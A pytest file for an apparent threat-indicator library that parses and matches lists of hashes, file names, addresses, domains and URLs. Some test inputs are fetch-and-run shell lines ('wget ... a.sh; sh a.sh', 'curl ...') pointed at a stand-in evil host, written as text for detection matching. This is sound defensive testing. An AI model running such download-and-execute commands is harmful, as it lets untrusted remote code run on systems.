"""Lists of indicators: what is an entry, and what of a text is one."""

import pytest

from quetsach.core.errors import InputError
from quetsach.core.indicator_list import ListKind, is_domain, list_line, normal_url, parse_list

MD5, SHA1, SHA256 = "0" * 31 + "a", "0" * 39 + "b", "0" * 63 + "c"


def test_a_list_is_entries_with_what_they_are_called_and_comments() -> None:
    found = parse_list(ListKind.HASHES, f"# ours\n64:{MD5} Win.A b\n\n*:{SHA1}\nsection:512:{SHA256} c\n")
    assert found.entries == {f"64:{MD5}": "Win.A b", f"*:{SHA1}": "", f"section:512:{SHA256}": "c"}


@pytest.mark.parametrize(
    ("kind", "line"),
    [
        (ListKind.HASHES, f"63:{MD5}"),
        (ListKind.HASHES, f"5000000000:{MD5}"),
        (ListKind.HASHES, f"64:{MD5.upper()}"),
        (ListKind.HASHES, f"section:*:{MD5}"),
        (ListKind.HASHES, "64:abc"),
        (ListKind.NAMES, "A.exe"),
        (ListKind.NAMES, "folder/a.exe"),
        (ListKind.ADDRESSES, "192.0.2.1/24"),
        (ListKind.ADDRESSES, "192.0.2.01"),
        (ListKind.ADDRESSES, "2001:DB8::1"),
        (ListKind.ADDRESSES, "::ffff:192.0.2.1"),
        (ListKind.DOMAINS, "Evil.example.test"),
        (ListKind.DOMAINS, "test"),
        (ListKind.DOMAINS, "192.0.2.1"),
        (ListKind.URLS, "HTTP://evil.example.test/"),
        (ListKind.URLS, "ftp://evil.example.test/"),
        (ListKind.DOMAINS, "evil.example.test a\x1b[31m"),
        (ListKind.DOMAINS, "evil.example.test " + "x" * 201),
    ],
)
def test_what_is_no_entry_is_refused_with_its_line(kind: ListKind, line: str) -> None:
    with pytest.raises(InputError, match="line 2 is no entry") as caught:
        parse_list(kind, f"# one\n{line}\n")
    assert caught.value.hint


def test_an_empty_list_is_refused() -> None:
    with pytest.raises(InputError, match="0 entries"):
        parse_list(ListKind.DOMAINS, "# nothing\n")


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("192.0.2.1:80", "192.0.2.1"),
        ("connect 198.51.100.77, then", "198.51.100.0/24"),
        ("[2001:db8::1]:443", "2001:db8::1"),
        ("2001:0db8:0:0:0:0:0:1", "2001:db8::1"),
        ("::ffff:192.0.2.1", "192.0.2.1"),
        ("192.0.2.11", None),
        ("192.0.2.1.5", None),
        ("1192.0.2.1", None),
        ("v192.0.2.1", None),
        ("999.0.2.1 ::::", None),
    ],
)
def test_an_address_is_found_as_a_whole_and_in_its_range(text: str, found: str | None) -> None:
    known = parse_list(ListKind.ADDRESSES, "192.0.2.1\n198.51.100.0/24\n2001:db8::1")
    assert known.find(text) == (None if found is None else (found, ""))


@pytest.mark.parametrize(
    ("text", "is_found"),
    [
        ("curl http://a.evil.example.test/x", True),
        ("EVIL.example.test.", True),
        ("user@evil.example.test", True),
        ("notevil.example.test", False),
        ("evil.example.test.org", False),
        ("example.test", False),
        ("a" * 60_000 + ".evil.example.test", False),
    ],
)
def test_a_domain_is_found_with_what_lies_below_it(text: str, is_found: bool) -> None:
    known = parse_list(ListKind.DOMAINS, "evil.example.test botnet")
    assert known.find(text) == (("evil.example.test", "botnet") if is_found else None)


@pytest.mark.parametrize(
    ("text", "is_found"),
    [
        ("wget -q http://EVIL.example.test/a.sh; sh a.sh", True),
        ('("http://evil.example.test/a.sh")', True),
        ("HTTP://evil.example.test/a.sh#part", True),
        ("http://evil.example.test/a.shx", False),
        ("http://evil.example.test/A.sh", False),
    ],
)
def test_a_url_is_found_whatever_the_case_of_its_host(text: str, is_found: bool) -> None:
    known = parse_list(ListKind.URLS, "http://evil.example.test/a.sh")
    assert (known.find(text) is not None) is is_found


def test_a_name_is_one_as_a_whole_in_any_case() -> None:
    known = parse_list(ListKind.NAMES, "bad one.exe\ta dropper")
    assert known.find("Bad One.EXE") == ("bad one.exe", "a dropper")
    assert known.find("bad one.exe.txt") is None


def test_only_the_start_of_a_long_text_is_looked_at() -> None:
    known = parse_list(ListKind.DOMAINS, "evil.example.test")
    assert known.find(" " * 70_000 + "evil.example.test") is None


def test_a_label_is_written_so_that_the_list_can_be_read() -> None:
    line = list_line(ListKind.DOMAINS, "evil.example.test", "one\ntwo\x1b " + "x" * 300)
    assert parse_list(ListKind.DOMAINS, line).entries["evil.example.test"].startswith("onetwo ")


def test_a_url_without_a_path_is_that_of_the_root() -> None:
    assert normal_url("https://Evil.example.test") == "https://evil.example.test/"
    assert normal_url("evil.example.test") == ""


def test_long_names_are_no_domains() -> None:
    assert is_domain("a." * 100 + "test")
    assert not is_domain("a." * 130 + "test")
